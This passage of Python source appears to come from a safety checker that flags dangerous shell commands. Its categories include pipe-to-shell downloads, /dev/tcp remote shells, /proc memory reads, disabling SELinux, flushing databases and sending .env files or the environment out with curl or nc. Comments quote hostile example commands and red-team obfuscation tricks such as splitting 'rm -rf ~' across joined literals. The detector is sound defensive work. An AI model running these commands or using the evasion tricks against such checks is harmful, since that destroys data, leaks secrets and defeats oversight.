        return f.code, f.reason, f.part
    if not analysis.parsed:
        hit = text_findings(analysis.command, shell_shaped=True)
        return (hit[0], hit[1], analysis.command) if hit else None
    for cmd in analysis.commands:
        hit = command_findings(cmd, home=home)
        if hit:
            return hit[0], hit[1], " ".join(cmd.argv)
    if any(p in _CONTROL_FILES for p in analysis.write_paths) and (
            _CONTROL_OFF_TEXT.search(analysis.command) or any(
                p in ("/sys/fs/selinux/enforce", "/proc/sys/kernel/yama/ptrace_scope",
                      "/proc/sys/kernel/randomize_va_space") for p in analysis.write_paths)
            and re.search(r"(?<![\w.=-])0(?![\w.])", analysis.command)):
        # (echo 0 > /sys/fs/selinux/enforce, sed -i s/SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config)
        return "security_control_off", "SELinux or a kernel protection turned off", analysis.command
    for path in analysis.write_paths:
        if path.startswith("/etc/sysctl.d/") and _CONTROL_OFF_TEXT.search(analysis.command):
            return "security_control_off", "a kernel protection turned off (sysctl)", analysis.command
    for path in analysis.read_paths:
        if "/mem" in path and _OTHER_PROCESS_MEMORY.match(path):
            # (probe round 33, residuals34) another process' memory read: its secrets
            return "credential_dump", "another process' memory read (/proc/PID/mem)", analysis.command
    names = {c.name for c in analysis.commands}
    if names & DOWNLOADERS:
        for cmd in analysis.commands:
            if cmd.in_substitution:
                continue
            if cmd.name in INTERPRETERS and not _own_code(cmd):
                operands = [a for a in cmd.argv[1:] if not a.startswith("-")]
                if not operands or cmd.dynamic_args or any(a in ("-c", "-s", "-") for a in cmd.argv[1:]):
                    return "pipe_to_shell", "download run by a shell", analysis.command
            if _program_from_stream(cmd):
                return "pipe_to_shell", "download run by a shell", analysis.command
    # (and FLUSHALL as a command of its own behind a wrapper, sudo flushall, ( flushall ),
    # as the bare statement the DATA pattern denies: a wrapper is never less strict)
    if (names & REDIS_CLIENTS or names & _REDIS_STATEMENTS) and _REDIS_FLUSH.search(analysis.command):
        return "db_destructive", "destructive database command (drop, flush)", analysis.command
    if names & REDIS_CLIENTS and _redis_every_key_deleted(analysis.commands):
        return "db_destructive", "every key deleted (all keys listed and piped to DEL)", analysis.command
    shell_shaped = _hands_text_to_interpreter(analysis)
    # SQL or the metadata address in a command that only reads (grep, git log), or that
    # only records or moves text (a commit message, a migration written by echo or a
    # here-document), is data
    data = not analysis.read_only and not all(_text_inert(c, analysis.file_command) for c in analysis.commands)
    # ...and so are the words of a command that neither runs nor sends them, beside one
    # that does something else (git commit -m "drop table X" && git push)
    text = _loud_text(analysis) if data or shell_shaped else analysis.command
    hit = text_findings(text, shell_shaped=shell_shaped, data=data)
    if hit is None and ("/dev/" in analysis.command or "ztcp" in analysis.command) \
            and _SOCKET_DEVICE.search(analysis.command):
        # (probe round 34, residuals36) a socket's descriptor whose lines are run (exec
        # 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l; done), now that N<>F parses: the
        # remote shell patterns read the command as written (the loud text blanks read)
        again = text_findings(analysis.command, shell_shaped=True, data=False)
        if again is not None and again[0] == "remote_shell":
            hit = again
    if hit is None and not shell_shaped:
        # an interpreter's own program (python3 -c "...shutil.rmtree(Path.home())")
        for cmd in analysis.commands:
            if cmd.name in INTERPRETERS and _own_code(cmd) and len(cmd.argv) > 2 and not (
                    cmd.name == "osascript" and _text_inert(cmd)) and not (
                    # (probe round 31, benign31b) a program that prints literals only, in a
                    # command that only reads and prints (nothing runs what it prints: not
                    # | sh, not sh -c "$(...)", not > x.sh): python3 -c 'print("rm -rf ~")'
                    # prints the words, as echo does
                    # (probe round 32) ...nor when only its output goes to a file, as echo's
                    # does (python3 -c 'print("rm -rf ~")' > out.txt; the file run here after
                    # is _runs_a_file_written_here's, a shell's)
                    (analysis.read_only or not _output_piped(analysis.command, cmd, analysis.commands))
                    and not cmd.dynamic_args and literal_print(cmd.name, cmd.argv[1:])):
                # (osascript: display dialog "rm -rf ~")
                code = _own_code_text(cmd)
                hit = text_findings(code, shell_shaped=True, data=data)
                for joined in ([] if hit or literal_print(cmd.name, cmd.argv[1:]) else joined_literals(code)):
                    # (probe round 31, redteam31c) os.system("r" + "m -rf ~"), system("rm",
                    # "-rf", "/"), execSync('rm -rf ' + '~'): the literals joined
                    hit = text_findings(joined, shell_shaped=True, data=data)
                    if hit:
                        break
                if hit:
                    break
    if hit is None and (shell_shaped or not analysis.read_only):
        # (probe round 31, redteam31c) what a literal-printing one-liner prints, joined as its
        # language joins it, when something may run the printed text: python3 -c 'print("r" +
        # "m -rf ~")' | sh, node -e 'console.log("rm", "-rf", "~")' | sh, perl -e 'print "r" .
        # "m -rf ~"' > x.sh && sh x.sh, sh -c "$(python3 -c ...)" (the command's own text holds
        # no "rm -rf ~"; printed to the terminal alone, it is data, as the literal is); and, piped
        # into a shell, any interpreter's code with its string literals joined (osascript -e
        # 'return "r" & "m -rf ~"' | sh, mongosh --eval 'print("r" + "m -rf ~")' | sh)
        for cmd in analysis.commands:
            if cmd.name in SHELLS or cmd.name not in _CODE_TAKERS or cmd.dynamic_args or len(cmd.argv) < 3:
                continue
            # (printed for another program: a shell, ssh, psql, xargs sh -c, a substitution's
            # command; alone, python3 -c 'print("rm", "-rf", "/")' prints words, asked as before)
            texts = list(literal_printed_texts(cmd.name, cmd.argv[1:])) \
                if len(cmd.argv) == 3 and (shell_shaped or _output_piped(analysis.command, cmd, analysis.commands)) else []
            if shell_shaped:
                texts += [t for a in cmd.argv[1:] for t in joined_literals(a)]
            for printed in texts:
                hit = text_findings(printed, shell_shaped=True, data=data)
                if hit:
                    break
            if hit:
                break
    if hit is None and data:
        # psql -c 'DELETE FROM users', sqlite3 db "UPDATE t SET a = 1": every row
        for cmd in analysis.commands:
            for w in cmd.argv[1:]:
                if len(w) < 100_000 and _SQL_HINT.search(w) and w in text and unbounded_sql(w):
                    return "sql_destructive", REASON_UNBOUNDED_SQL, analysis.command
    if hit is None and shell_shaped and "\\" in text:
        # the text as printf and echo -e print it ('all:\n\trm -rf ~' into make -f -)
        hit = text_findings(_PRINTF_ESCAPE.sub(" ", text), shell_shaped=True, data=data)
    if hit:
        return hit[0], hit[1], analysis.command
    for cmd in analysis.commands:
        # what a client is given once the shell is done ("169.254.169.$((254))")
        if cmd.name in DOWNLOADERS or cmd.name in ("nc", "ncat", "socat", "telnet", "openssl", "ssh"):
            joined = " ".join(cmd.argv)
            if joined not in analysis.command and metadata_address(joined):
                return "metadata_address", "cloud metadata service address", joined
    return None


# --- a line of written content that sends a secret out --------------------------------
# (a Makefile recipe, a package.json script, a hook, a test fixture: whatever runs the
# file later runs it, and a build is allowed where a file command is)
_SENDER = (r"(?:\b(?:curl|wget|nc|ncat|netcat|socat|scp|rsync|sftp|ftp|telnet|s_client|sendmail)\b|/dev/(?:tcp|udp)/"
           r"|requests\.(?:post|put|patch)\s*\(|urlopen\s*\(|sendBeacon|axios\.(?:post|put)\s*\(|Net::HTTP|IO::Socket)")
_SECRET_REF = (r"(?:(?:^|[ \t@<'\"=(:])(?:\./)?\.env(?:\.local|\.prod|\.production)?(?:$|[ \t'\"`);|&>,])"
               r"|\btar[ \t]+-?[a-zA-Z]*c[a-zA-Z]*[ \t]+(?:-[ \t]+)?\.(?:$|[ \t|])|\bzip[ \t]+-r\S*[ \t]+-[ \t]+\."
               r"|\bgit[ \t]+(?:bundle[ \t]+create|archive)\b"
               r"|\.ssh/|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|\.aws/credentials|\.netrc\b|\.git-credentials|\.npmrc\b"
               r"|\.pypirc\b|\.docker/config\.json|\.kube/config|/proc/(?:self|\d+|\$\$)/environ|\bprintenv\b"
               r"|\benv[ \t]*\||(?:dict|str|repr|json\.dumps)\s*\(\s*(?:dict\s*\()?os\.environ\s*\)"
               r"|JSON\.stringify\s*\(\s*process\.env\s*\))")
_SENDS_SECRET_LINE = re2.compile(f"(?m){_SENDER}[^\\n]*{_SECRET_REF}|{_SECRET_REF}[^\\n]*{_SENDER}")
_EXCLUDED_SECRET = re.compile(r"(?:exclude|ignore|--filter=-)[= ]+['\"]?(?:\./)?\.env\b")


def may_send_secret(text: str) -> bool:
    """Could sends_secret_line find a line in ``text``? One RE2 pass (each RE2 call costs
    microseconds however short the text); values joined by newlines are tested at once."""
    return re2_found(_SENDS_SECRET_LINE, text)


def sends_secret_line(text: str) -> str | None:
    """A line of written content that sends a secret file or the environment over the
    network (curl -d @.env ..., env | nc ..., urlopen(url, str(os.environ))): the line,
    or None. An rsync/scp that excludes .env names it without sending it."""
    if not text:
        return None
    for m in _SENDS_SECRET_LINE.finditer(text):
        line = m.group(0)
        if _EXCLUDED_SECRET.search(line) and not _SENDS_SECRET_LINE.search(_EXCLUDED_SECRET.sub(" ", line)):
            continue
        return line.strip()[:200]
    return None
